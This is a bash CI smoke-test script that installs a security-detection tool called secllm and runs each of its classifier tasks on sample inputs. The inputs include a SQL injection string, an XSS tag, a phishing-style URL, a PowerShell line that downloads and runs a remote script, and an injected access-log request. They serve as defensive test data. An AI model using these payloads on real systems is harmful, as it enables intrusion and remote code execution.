#!/usr/bin/env bash
# The install the README's demo makes (`pip install ".[all]"`) runs every shipped feature: into a
# fresh virtualenv, that extra alone, then every task once through the CLI (routing, each
# `--task`, a pcap, scan (local and on Spark), the knowledge base). Run by .ci/run.
set -euo pipefail
cd "$(dirname "$0")/.."
PY=${PYTHON:-python3}
V="$(mktemp -d)/venv"
"$PY" -m venv "$V"
"$V/bin/python" -m pip install -q --upgrade pip
"$V/bin/python" -m pip install -q "torch==2.13.0"
"$V/bin/python" -m pip install -q ".[all]"
S="$V/bin/secllm"
T="$(mktemp -d)"
run() { echo "+ secllm $*"; "$S" "$@" > "$T/out" 2> "$T/err" || { cat "$T/err" >&2; exit 1; }; head -c 400 "$T/out"; echo; }
run detect --json "1' union select password from users--"                     # identified, routed, judged
run detect --json --task web-attack "<script>alert(1)</script>"
run detect --json --task url "http://paypal.com.account-verify.example.ru/login.php"
run detect --json --task script 'IEX (New-Object Net.WebClient).DownloadString("http://10.1.2.3/a.ps1")'
run detect --json --task log-bgl "RAS KERNEL FATAL data TLB error interrupt"
run detect --json --task log-hdfs "5 5 5 22 11 9 11 9 11 9 26 26 26 23 23 23 21 21 21"
run detect --json --task cti-attack "The malware injects its payload into explorer.exe to evade defenses."
run detect --json --task evtx-tactic '<Event><System><EventID>4624</EventID></System></Event>'
run detect --json --task traffic "16 03 01 02 00 01 00 01 fc 03 03"
"$V/bin/python" - "$T/tiny.pcap" <<'PY'
import sys
from scapy.all import IP, TCP, Ether, Raw, wrpcap
req = b"GET /index.html HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8\r\n\r\n"
wrpcap(sys.argv[1], [Ether() / IP(src="10.0.0.1", dst="10.0.0.2") / TCP(sport=40000, dport=80, flags="PA", seq=1) / Raw(req),
                     Ether() / IP(src="10.0.0.2", dst="10.0.0.1") / TCP(sport=80, dport=40000, flags="PA", seq=1) / Raw(b"HTTP/1.1 200 OK\r\n\r\nhi")])
PY
gzip "$T/tiny.pcap"
run detect --json --task traffic --file "$T/tiny.pcap.gz"
printf '10.0.0.1 - - [10/Oct/2023:13:55:36 +0000] "GET /a?id=1%%27%%20or%%201=1-- HTTP/1.1" 200 5 "-" "ua"\n' > "$T/access.log"
run scan "$T/access.log"
run scan --engine spark --no-progress "$T/access.log"                           # PySpark local[2] (Java: install_system_deps.sh)
run scan "$T/access.log" --all --raw-ips --incidents "$T/incidents.jsonl" --no-progress    # incidents while scanning
run incidents "$T/access.log" --raw-ips --min-score 0 --stix "$T/bundle.json" --html "$T/report.html"
run kb show T1190
echo "OK: the full install runs every shipped task"
